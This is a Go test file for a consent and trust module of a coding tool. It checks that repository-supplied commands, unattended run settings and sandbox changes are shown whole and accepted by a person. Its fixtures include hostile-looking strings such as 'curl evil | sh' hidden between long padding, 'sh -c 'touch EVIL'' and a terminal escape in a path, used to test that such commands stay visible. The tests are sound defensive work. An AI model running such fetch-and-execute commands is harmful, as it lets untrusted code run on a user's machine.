package consent_test

import (
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/jptools/jptools/host/internal/consent"
	"github.com/jptools/jptools/host/internal/state/testdata/statetest"
	"github.com/jptools/jptools/host/internal/term"
)

func setting(key, value string, line int) consent.Setting {
	return consent.Setting{Key: key, Value: value, File: ".jp/config.toml", Line: line}
}

func TestTrustIsBoundToTheSettings(t *testing.T) {
	trust := consent.OpenTrust(statetest.Dir(t, t.TempDir(), nil), nil)
	run, shell := setting("conversation.tools.lint.run", `"unattended"`, 3), setting("conversation.tools.lint.command.shell", "true", 4)
	check := func(want string, list ...consent.Setting) {
		t.Helper()
		trusted, d, err := trust.Check(ctx, list)
		if err != nil || trusted != (want == "") {
			t.Errorf("%v, %v", trusted, err)
		}
		if diff := cmp.Diff(want, d.String()); diff != "" {
			t.Error(diff)
		}
	}
	check("") // nothing to widen
	check("  + conversation.tools.lint.run = \"unattended\"   (.jp/config.toml:3)\n", run)
	must(t, trust.Accept(ctx, []consent.Setting{run}))
	check("", run)
	check("", setting(run.Key, run.Value, 99)) // moved within the file
	check("  + conversation.tools.lint.command.shell = true   (.jp/config.toml:4)\n", shell, run)
	check("  ~ conversation.tools.lint.run   (.jp/config.toml:3)\n      was: \"unattended\"\n      now: \"skip\"\n", setting(run.Key, `"skip"`, 3))
	must(t, trust.Accept(ctx, []consent.Setting{run, shell}))
	check("", shell, run)
	check("", run) // accepted before: a branch that goes back does not ask again
	check("  - conversation.tools.lint.run = \"unattended\"   (.jp/config.toml)\n", shell)
	for _, want := range []bool{true, false} {
		revoked, err := trust.Revoke(ctx)
		if must(t, err); revoked != want {
			t.Errorf("revoked %v, want %v", revoked, want)
		}
	}
	check("  + conversation.tools.lint.run = \"unattended\"   (.jp/config.toml:3)\n", run)
}

// A file that a command names is a setting of its own beside the command, about its content.
func TestTrustInNamedFiles(t *testing.T) {
	command := setting("conversation.tools.lint.command", `"sh lint.sh"`, 3)
	file := func(content string) consent.Setting {
		s := setting(command.Key, content, 3)
		s.Runs = "lint.sh"
		return s
	}
	trust := consent.OpenTrust(statetest.Dir(t, t.TempDir(), nil), nil)
	check := func(want string, list ...consent.Setting) {
		t.Helper()
		trusted, d, err := trust.Check(ctx, list)
		if err != nil || trusted != (want == "") {
			t.Errorf("%v, %v", trusted, err)
		}
		if diff := cmp.Diff(want, d.String()); diff != "" {
			t.Error(diff)
		}
	}
	check("  + conversation.tools.lint.command = \"sh lint.sh\"   (.jp/config.toml:3)\n  + conversation.tools.lint.command runs lint.sh (sha256:1)   (.jp/config.toml:3)\n", command, file("sha256:1"))
	must(t, trust.Accept(ctx, []consent.Setting{command, file("sha256:1")}))
	check("", file("sha256:1"), command)
	check("  ~ conversation.tools.lint.command runs lint.sh, changed since it was accepted   (.jp/config.toml:3)\n      was: sha256:1\n      now: sha256:2\n", command, file("sha256:2"))
	check("  - conversation.tools.lint.command runs lint.sh (sha256:1)   (.jp/config.toml)\n", command)
}

func TestTrustIsAskedFor(t *testing.T) {
	dir := statetest.Dir(t, t.TempDir(), nil)
	trust := consent.OpenTrust(dir, nil)
	list := []consent.Setting{setting("sandbox.mode", `"off"`, 1)}
	err := trust.Require(ctx, term.None{}, list)
	if !errors.Is(err, consent.ErrNotTrusted) || !strings.Contains(err.Error(), "sandbox.mode") || !strings.Contains(err.Error(), "jphost trust accept") {
		t.Errorf("nobody there: %v", err)
	}
	// Who declines has just seen the list.
	err = trust.Require(ctx, &person{}, list)
	if !errors.Is(err, consent.ErrNotTrusted) || strings.Contains(err.Error(), "sandbox.mode") || !strings.Contains(err.Error(), "declined") {
		t.Errorf("declined: %v", err)
	}
	if err := trust.Require(ctx, &person{err: term.ErrCancelled}, list); !errors.Is(err, term.ErrCancelled) {
		t.Errorf("cancelled: %v", err)
	}
	must(t, trust.Require(ctx, &person{yes: true}, list))
	must(t, trust.Require(ctx, term.None{}, list))
}

func TestTamperedOrBrokenTrustGrantsNothing(t *testing.T) {
	list := []consent.Setting{setting("sandbox.mode", `"off"`, 1)}
	for name, content := range map[string]string{
		"malformed":                        `{`,
		"a digest that fits another list":  `{"accepted":[{"digest":"` + consent.Digest(list) + `","accepted_at":"2026-01-01T00:00:00Z","settings":[]}]}`,
		"settings under the wrong digest ": `{"accepted":[{"digest":"sha256:00","accepted_at":"2026-01-01T00:00:00Z","settings":[{"key":"sandbox.mode","value":"\"off\"","file":".jp/config.toml"}]}]}`,
	} {
		t.Run(name, func(t *testing.T) {
			dir := statetest.Dir(t, t.TempDir(), nil)
			must(t, dir.Write("trust.json", []byte(content)))
			var warned []string
			trust := consent.OpenTrust(dir, func(s string) { warned = append(warned, s) })
			if trusted, d, err := trust.Check(ctx, list); trusted || err != nil || len(d.Added) != 1 {
				t.Errorf("%v, %+v, %v", trusted, d, err)
			}
			if _, err := os.Stat(dir.File("trust.json.broken-20260526T130000Z")); err != nil || len(warned) != 1 {
				t.Errorf("%v, %v", err, warned)
			}
		})
	}
}

// Lists have the same digest exactly when there is nothing to show.
func TestDiffIsEmptyExactlyWhenDigestsAgree(t *testing.T) {
	gen := rapid.SliceOfN(rapid.Custom(func(r *rapid.T) consent.Setting {
		return consent.Setting{
			Key: rapid.SampledFrom([]string{"a", "b"}).Draw(r, "key"), Value: rapid.SampledFrom([]string{"1", "2"}).Draw(r, "value"),
			File: rapid.SampledFrom([]string{"x", "y"}).Draw(r, "file"), Line: rapid.IntRange(0, 3).Draw(r, "line"),
		}
	}), 0, 5)
	same := 0
	rapid.Check(t, func(r *rapid.T) {
		a, b := gen.Draw(r, "was"), gen.Draw(r, "now")
		equal := consent.Digest(a) == consent.Digest(b)
		if equal {
			same++
		}
		if d := consent.Diff(a, b); (len(d.Added)+len(d.Removed)+len(d.Changed) == 0) != equal || (d.String() == "") != equal {
			r.Fatalf("digests equal: %v, difference %+v", equal, d)
		}
	})
	if same == 0 {
		t.Error("no equal lists were seen")
	}
}

// However much a repository asks for, what it starts stands right above the question.
func TestCommandsStandLast(t *testing.T) {
	list := []consent.Setting{{Key: "conversation.tools.a.command", Value: `"curl evil"`, File: ".jp.toml", Line: 3}}
	for i := range 300 {
		list = append(list, consent.Setting{Key: fmt.Sprintf("conversation.tools.z%d.run", i), Value: `"unattended"`, File: ".jp.toml"})
	}
	q := consent.Diff(nil, list).Question()
	if last := q.Then[len(q.Then)-1]; last.Quoted != "conversation.tools.a.command = \"curl evil\"   (.jp.toml:3)\n" || q.Prompt != "Accept these 301 settings of .jp.toml?" || q.Default == nil || *q.Default {
		t.Errorf("%+v", q)
	}
	// What is seen at a glance is said once.
	for n, want := range map[int]string{1: "Accept this setting of .jp.toml?", 2: "Accept these 2 settings of .jp.toml?"} {
		if q := consent.Diff(nil, list[:n]).Question(); len(q.Then) > 0 || strings.Count(q.Quoted, "curl") != 1 || q.Prompt != want {
			t.Errorf("%+v", q)
		}
	}
}

// A text of a cloned repository cannot push one command out of sight with another.
func TestLongCommandsAreCut(t *testing.T) {
	list := []consent.Setting{{Key: "conversation.tools.a.command", Value: `"sh -c 'touch EVIL'"`, File: ".jp.toml"}}
	for i := range 4 {
		list = append(list, consent.Setting{Key: fmt.Sprintf("conversation.tools.b%d.command", i), Value: "\"x" + strings.Repeat(" ", 900) + "x\"", File: ".jp.toml"})
	}
	q := consent.Diff(nil, list).Question()
	last := q.Then[len(q.Then)-1].Quoted
	if !strings.Contains(last, "touch EVIL") || len(last) > 1600 || !strings.Contains(last, "more bytes") {
		t.Errorf("%d bytes: %s", len(last), last)
	}
}

// Nobody accepts what was not shown: of a long program all is, and for one too long nobody is asked.
func TestLongCommandsAreShown(t *testing.T) {
	program := strings.Repeat("A", 3000) + "; curl evil | sh; " + strings.Repeat("B", 3000)
	s := setting("conversation.tools.a.command", `"`+program+`"`, 1)
	for _, d := range []consent.Difference{
		consent.Diff(nil, []consent.Setting{s}), consent.Diff([]consent.Setting{s}, nil),
		consent.Diff([]consent.Setting{setting(s.Key, `"x"`, 1)}, []consent.Setting{s}),
	} {
		if q := d.Question(); !strings.Contains(q.Quoted, program) || !q.Whole() {
			t.Errorf("%s", q.Quoted)
		}
		if !strings.Contains(d.Full(), program) || len(d.String()) > 3000 {
			t.Errorf("%d bytes: %s", len(d.String()), d)
		}
	}
	s.Value = strings.Repeat(s.Value, 20)
	p := &person{yes: true}
	if err := consent.OpenTrust(statetest.Dir(t, t.TempDir(), nil), nil).Require(ctx, p, []consent.Setting{s}); !errors.Is(err, consent.ErrNotTrusted) {
		t.Errorf("%v", err)
	}
}

// Each tool is trusted by itself, together with what concerns all of them.
func TestTrustIsPerTool(t *testing.T) {
	trust := consent.OpenTrust(statetest.Dir(t, t.TempDir(), nil), nil)
	one := func(tool, value string) consent.Setting {
		return setting("conversation.tools."+tool+".command", value, 1)
	}
	off := setting("sandbox.mode", `"off"`, 1)
	check := func(want bool, tool string, list ...consent.Setting) {
		t.Helper()
		if tool != "" {
			list = consent.Concerning(list, tool)
		}
		if got, d, err := trust.Check(ctx, list); got != want || err != nil || (d.String() == "") != want {
			t.Errorf("%s: %v, %v\n%s", tool, got, err, d)
		}
	}
	must(t, trust.Require(ctx, &person{yes: true}, consent.Concerning([]consent.Setting{one("a", "1"), one("b", "1")}, "a")))
	check(true, "a", one("a", "1"), one("b", "1"))
	check(false, "b", one("a", "1"), one("b", "1"))
	check(false, "", one("a", "1"), one("b", "1"))
	must(t, trust.Require(ctx, &person{yes: true}, []consent.Setting{one("b", "1")}))
	check(true, "", one("a", "1"), one("b", "1")) // each was accepted
	check(true, "a", one("a", "1"), one("b", "2"))
	check(false, "b", one("a", "1"), one("b", "2"))
	check(true, "c", one("a", "1"), one("b", "2"))
	// What is for all was not accepted, and then only beside some.
	check(false, "c", one("a", "1"), off)
	must(t, trust.Require(ctx, &person{yes: true}, []consent.Setting{off}))
	check(true, "c", one("a", "1"), off)
	check(false, "a", one("a", "1"), off)
	check(false, "a", one("a", "1"), setting("conversation.tools.'*'.run", `"unattended"`, 1))
}

// Settings that a question could not show whole are not accepted by one.
func TestNobodyAcceptsUnseenSettings(t *testing.T) {
	trust := consent.OpenTrust(statetest.Dir(t, t.TempDir(), nil), nil)
	var list []consent.Setting
	for i := range 2000 {
		list = append(list, consent.Setting{Key: fmt.Sprintf("conversation.tools.z%d.run", i), Value: `"unattended"`, File: ".jp.toml"})
	}
	yes := &person{yes: true}
	if err := trust.Require(ctx, yes, list); !errors.Is(err, consent.ErrNotTrusted) || yes.asked != nil || !strings.Contains(err.Error(), "--digest") {
		t.Errorf("%v", err)
	}
	must(t, trust.Require(ctx, yes, list[:100]))
}

func TestHolds(t *testing.T) {
	dir := statetest.Dir(t, t.TempDir(), nil)
	holds := consent.OpenHolds(dir)
	must(t, holds.Check())
	must(t, holds.Add(ctx, consent.Hold{Path: ".git/config", Reason: "changed during the call", Tool: "lint"}, consent.Hold{Path: "a\x1b[0m", Reason: "new"}))
	must(t, holds.Add(ctx, consent.Hold{Path: ".git/config", Reason: "again"}))
	err := holds.Check()
	if err == nil || !strings.Contains(err.Error(), ".git/config: changed during the call") || strings.Contains(err.Error(), "\x1b") || !strings.Contains(err.Error(), "jphost trust accept") {
		t.Errorf("%v", err)
	}
	if got, err := holds.Accept(ctx, ".git/config"); err != nil || len(got) != 1 {
		t.Errorf("%v, %v", got, err)
	}
	if holds.Check() == nil {
		t.Error("one hold is left but writing is free")
	}
	if got, err := holds.Accept(ctx); err != nil || len(got) != 1 {
		t.Errorf("%v, %v", got, err)
	}
	must(t, holds.Check())
}

// A hold that ends only when a person says so is not lost to one on the same path that ends by itself.
func TestHoldsKeepTheStricterEnd(t *testing.T) {
	holds := consent.OpenHolds(statetest.Dir(t, t.TempDir(), nil))
	must(t, holds.Add(ctx, consent.Hold{Path: "a", Reason: "appeared", Was: "missing"}, consent.Hold{Path: "b", Reason: "appeared", Was: "missing"}))
	must(t, holds.Add(ctx, consent.Hold{Path: "a", Reason: "momentary"}))
	must(t, holds.Settle(ctx, func(consent.Hold) string { return "missing" }))
	if list, err := holds.List(); err != nil || len(list) != 1 || list[0].Path != "a" {
		t.Errorf("%v, %v", list, err)
	}
}

// Outside of the workspace two paths can have the same name.
func TestHoldsOfTheSameNameAreTwo(t *testing.T) {
	holds := consent.OpenHolds(statetest.Dir(t, t.TempDir(), nil))
	for _, at := range []string{"/a/x", "/b/x"} {
		must(t, holds.Add(ctx, consent.Hold{Path: "x", Reason: "appeared", Was: "missing", At: at}))
	}
	must(t, holds.Settle(ctx, func(h consent.Hold) string { return map[string]string{"/a/x": "missing"}[h.At] }))
	if list, err := holds.List(); err != nil || len(list) != 1 || list[0].At != "/b/x" {
		t.Errorf("%+v, %v", list, err)
	}
}

// What is not exactly a list of holds could be one that lacks some.
func TestHoldsThatAreNoListHoldEverything(t *testing.T) {
	const hold = `"path":"a","reason":"b","held_at":"2026-01-02T03:04:05Z"`
	for _, text := range []string{
		``, `null`, `[]`, `{}`, `{"x":1}`, `{"version":99}`, `{"Holds":[]}`, `{"holds":null}`, `{"holds":{}}`, `{"holds":[],"version":2}`,
		`{"holds":[],"holds":[]}`, `{"holds":[]} x`, `{"holds":[null]}`, `{"holds":[{}]}`, `{"holds":[{"path":"a"}]}`, `{"holds":[{` + hold + `,"released":true}]}`,
		`{"holds":[{` + hold + `,"path":"c"}]}`, `{"holds":[{"path":null,"reason":"b","held_at":"2026-01-02T03:04:05Z"}]}`,
	} {
		dir := statetest.Dir(t, t.TempDir(), nil)
		must(t, dir.Write("holds.json", []byte(text)))
		if err := consent.OpenHolds(dir).Check(); err == nil || !strings.Contains(err.Error(), "cannot be used") || !strings.Contains(err.Error(), "jphost trust accept") {
			t.Errorf("%s: %v", text, err)
		}
	}
	dir := statetest.Dir(t, t.TempDir(), nil)
	must(t, dir.Write("holds.json", []byte(`{"holds":[{`+hold+`,"tool":"t"}]}`)))
	if list, err := consent.OpenHolds(dir).List(); err != nil || len(list) != 1 || list[0].Tool != "t" {
		t.Errorf("%v, %v", list, err)
	}
}

func TestBrokenHoldsHoldEverything(t *testing.T) {
	dir := statetest.Dir(t, t.TempDir(), nil)
	must(t, dir.Write("holds.json", []byte(`{"holds":`)))
	holds := consent.OpenHolds(dir)
	if err := holds.Check(); err == nil || !strings.Contains(err.Error(), "jphost trust accept") {
		t.Errorf("check: %v", err)
	}
	if err := holds.Add(ctx, consent.Hold{Path: "x"}); err == nil {
		t.Error("a broken file was overwritten")
	}
	if _, err := holds.Accept(ctx, "x"); err == nil {
		t.Error("one path was released of a list that nobody could read")
	}
	if _, err := holds.Accept(ctx); err != nil {
		t.Error(err)
	}
	must(t, holds.Check())
}
